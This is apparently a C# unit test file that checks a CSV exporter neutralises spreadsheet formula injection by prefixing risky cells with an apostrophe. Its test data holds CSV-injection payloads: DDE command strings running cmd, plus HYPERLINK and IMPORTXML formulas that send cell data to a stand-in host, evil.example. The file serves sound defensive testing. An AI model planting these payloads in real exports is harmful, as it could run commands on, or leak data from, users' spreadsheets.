using System.Text;
using NexRelay.Logging.Logs;

namespace NexRelay.Logging.Tests.Logs;

/// <summary>CSV injection (OWASP): a cell a spreadsheet would run as a formula is exported as text, and nothing else changes.</summary>
public sealed class CsvExportTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+9)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("=")]
    [InlineData("-")]
    public void A_cell_that_starts_like_a_formula_gets_a_leading_apostrophe_and_is_otherwise_kept(string value)
    {
        var row = Row(["req_1", value, "after"]);
        Assert.Equal(["req_1", "'" + value, "after"], row);
    }

    [Theory]
    [InlineData("Mozilla/5.0 (X11; Linux x86_64)")]
    [InlineData("a=b, c")]
    [InlineData(" =1+1")] // a leading space: spreadsheets keep it as text
    [InlineData("-12.5")] // a plain number cannot run anything
    [InlineData("+3")]
    [InlineData("-1e-3")]
    [InlineData("")]
    public void Other_cells_are_unchanged(string value)
    {
        Assert.Equal(["req_1", value], Row(["req_1", value]));
    }

    [Fact]
    public void A_neutralised_cell_that_needs_quoting_is_still_quoted_correctly()
    {
        const string value = "=IMPORTXML(\"http://evil.example\", \"//a\"),\r\nsecond line";
        var line = new StringBuilder();
        CsvExportResult.AppendRow(line, ["req_1", value]);
        Assert.Equal("req_1,\"'=IMPORTXML(\"\"http://evil.example\"\", \"\"//a\"\"),\r\nsecond line\"\r\n", line.ToString());
        Assert.Equal(["req_1", "'" + value], Csv.Parse(line.ToString()).Single());
    }

    private static string[] Row(string?[] fields)
    {
        var line = new StringBuilder();
        CsvExportResult.AppendRow(line, fields);
        return Csv.Parse(line.ToString()).Single();
    }
}
